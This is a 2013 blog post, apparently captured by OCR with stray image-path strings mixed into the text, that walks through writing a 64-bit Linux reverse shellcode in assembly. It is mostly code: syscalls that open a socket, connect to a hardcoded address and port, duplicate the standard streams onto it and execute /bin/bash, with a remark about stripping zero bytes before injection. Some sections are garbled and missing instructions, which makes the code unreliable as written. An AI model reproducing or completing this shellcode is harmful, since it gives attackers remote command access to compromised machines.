Sunday, January 6, 2013

A 64 bits reverse shellcode

More bits equals more fun!
I'm sure a similar approach is possible also in 32 bit mode, but as the sacred linux man says:
"Only standard library implementors and kernel hackers need to know about socketcall()".

Technically,in this very moment, we are not kernel hackers, so let's use 64 bits syscalls socket() and connect().

0. Introduction

The desired behaviour of a  reverse shellcode is:
  1. Create a socket using tcp/udp or you favourite kernel-supported protocol.
  2. Connect to your server.
  3. Duplicate the socket file descriptor into the standard input and standard output one's.
  4. Exec a shell.

1. sys_socket(int domain, int type, int protocol) -- 41

Using man and header files <bits/socket.h> and <bits/socket_type.h>, we can easily determine the parameters:
  • domain: AF_INET = PF_INET = 2
  • type: SOCK_STREAM = 1
  • protocol: 0
The return value is the file descriptor.

 ; asmlinkage long sys_socket(int domain, int type, int protocol);
 mov rdi, 2 ; AF_INET => PF_INET => 2 ;;; /usr/include/bits/socket.h
 mov rsi, 1 ; SOCK_STREAM => 1 ;;; /usr/include/bits/socket_type.h
 mov rdx, 0
 mov rax, 41
 ; now rax contains the fd

2. sys_connect(int fd, struct sockaddr user *, int addrlen) -- 42

The boring part consists in manually define the sockaddr_in structure:

 struct sockaddr_in {
   short      sin_family;  // AF_INET (2)
   unsigned short  sin_port; // in network byte order (htons())
   struct in_addr  sin_addr; // As 32 bit
   char       sin_zero[8];Example for connection to

 sockaddr db 2,0,0x04,0xd2,0x7f,0x00,0x00,0x01,0,0,0,0,0,0,0,0

Using the new shiny relative IP addressing, we can easly write the asm code:

 ; asmlinkage long sys_connect(int fd, struct sockaddr __user *, int addrlen);
 mov rdi, rax ; fd
 lea rsi, [rel sockaddr] ; Socket address inet
 mov rdx, 16 ; sock_addr_in size
 mov rax, 42

3. sys_dup2(unsigned int oldfd,unsigned int newfd) -- 33

"Crepi l'avarizia!" We'll duplicate stdin, stdout and stderr.

 ; asmlinkage long sys_dup2(unsigned int oldfd, unsigned int newfd);
 ; check if rdi contains the fdmov rsi, 2 ; stderr
 mov rax, 33
 mov rsi, 1 ; stdoutmov rax, 33
 mov rsi, 0 ; stdinmov rax, 33

4. kernel_execve(const char *filename, const char *const argv[], const char *const envp[]) -- 59

The final step is to execute a shell:

 ; int kernel_execve(const char *filename, const char *const argv[], const char *const envp[]);lea rdi, [rel filename]
 lea rsi, [rel args]
 mov rdx, 0
 mov [rel args], rdi
 mov [rel args+8], rdx
 mov rax, 59
 filename db '/bin/bash',0
 args times 2 dq 1  ; nasm syntax

5. Conclusions

If the shellcode has to be injected asstring, a zero-byte elimination process must be performed, but it's quite straightforward.

Due to the high number of the syscalls needed,  the shellcode is really big and maybe ofdifficult usage, but of couse it's all for academic purposes.

No comments: